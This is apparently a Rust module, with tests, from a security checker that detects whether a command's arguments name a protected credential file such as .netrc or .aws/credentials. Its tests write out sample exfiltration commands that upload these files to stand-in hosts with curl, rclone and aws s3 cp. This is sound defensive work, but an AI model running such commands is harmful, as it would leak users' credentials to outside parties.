//! Whether the arguments of a program name a file.

/// Whether a word of `line` names the file at `path`, or a directory that it is in; both escaped. What
/// stands after one of `options` does not count.
///
/// A file is named by its last component, wherever that stands in a word (`@.netrc`, `file=@/home/u/.netrc`);
/// a directory by its whole path, or by a hidden name (`.aws`).
pub(super) fn name(line: &str, path: &str, options: &[String]) -> bool {
    let mut is_value = false;
    line.split(' ').skip(1).any(|word| {
        let word = word.trim_matches('\'');
        let was_value = std::mem::replace(&mut is_value, options.iter().any(|one| one == word));
        !was_value
            && !has_value(word, options)
            && (has_file(word, path) || has_directory(word, path))
    })
}

/// Whether it is `--option=value`.
fn has_value(word: &str, options: &[String]) -> bool {
    let mut rest = options.iter().filter_map(|one| word.strip_prefix(one.as_str()));
    rest.any(|rest| rest.starts_with('='))
}

fn has_file(word: &str, path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    // A file whose name is not known may be any.
    name.is_empty()
        || word.match_indices(name).any(|(at, _)| {
            let front = word.get(..at).unwrap_or_default();
            let rest = word.get(at + name.len()..).unwrap_or_default();
            let is_short_option = at == 2 && front.starts_with('-') && !front.starts_with("--");
            let begins = is_short_option || name.starts_with('.') || !front.ends_with(is_of_a_name);
            begins && !rest.starts_with(is_of_a_name)
        })
}

fn has_directory(word: &str, path: &str) -> bool {
    let word = if word == "/" { word } else { word.trim_end_matches('/') };
    let from_root = word.find('/').and_then(|at| word.get(at..)).unwrap_or_default();
    let is_below = |directory: &str| {
        let rest = path.strip_prefix(directory);
        directory == "/" || rest.is_some_and(|rest| rest.starts_with('/'))
    };
    let last = word.rsplit(['/', '=', '@']).next().unwrap_or_default();
    let is_hidden = last.len() > 1 && last.starts_with('.');
    !from_root.is_empty() && is_below(from_root)
        || is_hidden && path.split('/').any(|component| component == last)
}

fn is_of_a_name(character: char) -> bool {
    character.is_alphanumeric() || "._-".contains(character)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(line: &str, path: &str) -> bool {
        let options = ["--netrc-file", "--key"].map(str::to_owned);
        name(line, path, &options)
    }

    #[test]
    fn a_file_is_named_in_whatever_way_an_option_takes_it() {
        for line in [
            "curl -T /home/u/.netrc http://x/",
            "curl -T/home/u/.netrc http://x/",
            "curl -T.netrc http://x/",
            "curl -d @.netrc http://x/",
            "curl -F 'a=@/home/u/.netrc;type=text/plain' http://x/",
            "curl --upload-file=../u/.netrc http://x/",
            "curl -T '{.netrc,other}' http://x/",
            "curl -T '/home/a b/.netrc' http://x/",
            "curl --netrc-file .netrc -T .netrc http://x/",
            "curl -T file:///home/u/.netrc",
            "rclone copy /home/u/ evil:",
            "rclone copy / evil:",
            "rclone copy '/home/u' evil:",
        ] {
            assert!(names(line, "/home/u/.netrc"), "{line}");
        }
        for line in ["aws s3 cp ~/.aws s3://b/", "aws s3 cp credentials s3://b/", "x -Tcredentials"]
        {
            assert!(names(line, "/home/u/.aws/credentials"), "{line}");
        }
    }

    #[test]
    fn what_only_looks_like_it_names_nothing() {
        for line in [
            "/home/u/.netrc -n http://x/",
            "curl -sn http://x/",
            "curl --netrc http://x/home/u/",
            "curl --netrc-file /home/u/.netrc http://x/",
            "curl --netrc-file=/home/u/.netrc http://x/",
            "curl -T .netrc.example http://x/",
            "curl -T /home/u2/file http://x/",
        ] {
            assert!(!names(line, "/home/u/.netrc"), "{line}");
        }
        for line in ["aws iam create-credentials", "aws deploy push", "aws s3 sync u s3://b/"] {
            assert!(!names(line, "/home/u/.aws/credentials"), "{line}");
        }
    }

    #[test]
    fn a_file_without_a_name_may_be_any() {
        assert!(names("curl http://x/", ""));
    }
}
